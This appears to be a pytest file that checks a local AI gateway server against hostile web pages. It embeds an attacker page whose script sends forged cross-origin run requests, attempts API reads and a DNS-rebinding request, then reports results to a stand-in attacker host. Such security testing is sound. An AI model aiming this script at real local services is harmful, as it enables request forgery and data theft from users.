"""A real browser against the real server: headless Chromium on a page served from another origin
tries what any web page the user visits can try (a simple cross-origin POST of a valid run request,
a fetch of the dashboard API and of the model list, a DNS-rebinding-style request under another
host name): no run starts, nothing is readable.

`make test` installs Chromium (Debian's package) when it is missing.
"""
from __future__ import annotations

import base64
import contextlib
import json
import os
import queue
import signal
import subprocess
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from cursor_byok.protocol import agent_pb2 as pb
from tests.fakes import FakeProviderServer, Reply
from tests.harness.ide import BIDI_APPEND, RUN_SSE, append_body, envelope, run_request
from tests.harness.server import ServerProcess

from .edge_support import edge_config, provider_and_upstream

CHROMIUM = Path("/usr/bin/chromium")
MODEL = "byok-browser"
ATTACKER = "attacker.test"
REBIND = "rebind.test"  # a name the page's owner points at 127.0.0.1

PAGE = """<!doctype html><meta charset=utf-8><title>cat pictures</title><body><script>
const gw = "http://127.0.0.1:%(port)d", rebound = "http://%(rebind)s:%(port)d";
const body = Uint8Array.from(atob("%(append)s"), c => c.charCodeAt(0));
const results = {};
async function attempt(name, url, init) {
  try {
    const r = await fetch(url, init);
    let text = null;
    try { text = await r.text(); } catch (e) { text = "unreadable: " + e; }
    results[name] = {type: r.type, status: r.status, text: text};
  } catch (e) {
    results[name] = {error: String(e)};
  }
}
(async () => {
  await attempt("simple_post", gw + "%(append_path)s", {method: "POST", mode: "no-cors", headers: {"content-type": "text/plain"}, body});
  await attempt("typeless_post", gw + "%(append_path)s", {method: "POST", mode: "no-cors", body: new Blob([body])});
  await attempt("dashboard_api", gw + "/ui/api/conversations", {});
  await attempt("model_list", gw + "/agent.v1.AgentService/GetUsableModels", {method: "POST", headers: {"content-type": "application/proto"}, body: new Uint8Array()});
  await attempt("rebound_post", rebound + "%(append_path)s", {method: "POST", mode: "no-cors", headers: {"content-type": "text/plain"}, body});
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script>
"""


class AttackerSite:
    """The other origin: serves the page and collects what its script could read."""

    def __init__(self, page: str) -> None:
        self.reports: queue.Queue[dict[str, object]] = queue.Queue()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                return

            def do_GET(self) -> None:
                data = page.encode()
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_POST(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                site.reports.put(json.loads(self.rfile.read(length)))
                self.send_response(204)
                self.end_headers()

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def stop(browser: subprocess.Popen[bytes]) -> None:
    """The browser and every helper process it started (they share its process group)."""
    with contextlib.suppress(ProcessLookupError):
        os.killpg(browser.pid, signal.SIGKILL)
    browser.wait(10)


def chromium(url: str, profile: Path, *extra: str) -> subprocess.Popen[bytes]:
    return subprocess.Popen(
        [
            str(CHROMIUM),
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--disable-crash-reporter",
            "--disable-breakpad",
            f"--user-data-dir={profile}",
            f"--host-resolver-rules=MAP {ATTACKER} 127.0.0.1, MAP {REBIND} 127.0.0.1",
            *extra,
            url,
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


@pytest.fixture(scope="module")
def fakes() -> Iterator[tuple[FakeProviderServer, FakeProviderServer]]:
    with provider_and_upstream(Reply(body=b"upstream data", content_type="application/proto")) as both:
        yield both


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, fakes: tuple[FakeProviderServer, FakeProviderServer]) -> Iterator[ServerProcess]:
    cfg = edge_config(tmp_path_factory.mktemp("browser"), MODEL, *fakes, runsse_wait_seconds=1.0)
    with ServerProcess(cfg) as proc:
        yield proc


def test_chromium_is_installed() -> None:
    assert CHROMIUM.exists(), "make test installs it (apt-get install chromium)"


async def test_a_page_from_another_origin_starts_no_run_and_reads_nothing(server: ServerProcess, fakes, tmp_path: Path) -> None:
    provider, upstream = fakes
    rid = uuid.uuid4().hex
    append = append_body(rid, 0, run_request("spend the key", model=MODEL, conversation_id=uuid.uuid4().hex))
    page = PAGE % {"port": server.port, "rebind": REBIND, "append": base64.b64encode(append).decode(), "append_path": BIDI_APPEND}
    site = AttackerSite(page)
    browser = chromium(f"http://{ATTACKER}:{site.port}/", tmp_path / "profile")
    try:
        report = site.reports.get(timeout=60)
    finally:
        stop(browser)
        site.close()
    assert set(report) == {"simple_post", "typeless_post", "dashboard_api", "model_list", "rebound_post"}, report
    for name in ("simple_post", "typeless_post", "rebound_post"):
        assert report[name].get("type") == "opaque" and report[name]["text"] == "", report[name]  # sent, unreadable
    for name in ("dashboard_api", "model_list"):
        assert "error" in report[name], report[name]  # CORS: the script gets nothing back
    assert provider.requests == [] and upstream.requests == []
    async with httpx.AsyncClient(base_url=server.base_url, headers={"content-type": "application/connect+proto"}) as client:
        resp = await client.post(RUN_SSE, content=envelope(pb.BidiRequestId(request_id=rid).SerializeToString()))
    assert b"deadline_exceeded" in resp.content  # no transport, no run for the page's request id


def test_a_rebound_page_reads_only_the_refusal(server: ServerProcess, fakes, tmp_path: Path) -> None:
    """After DNS rebinding the page's origin is rebind.test:<our port>: whatever it loads from
    there is same-origin and readable. What it gets is the refusal."""
    _, upstream = fakes
    for path in ("/ui/api/conversations", "/aiserver.v1.AiService/Anything"):
        browser = chromium(f"http://{REBIND}:{server.port}{path}", tmp_path / f"profile{len(path)}", "--dump-dom")
        try:
            out, _ = browser.communicate(timeout=60)
        finally:
            stop(browser)
        dom = out.decode(errors="replace")
        assert "permission_denied" in dom and "another host" in dom, dom[:500]
    assert upstream.requests == []
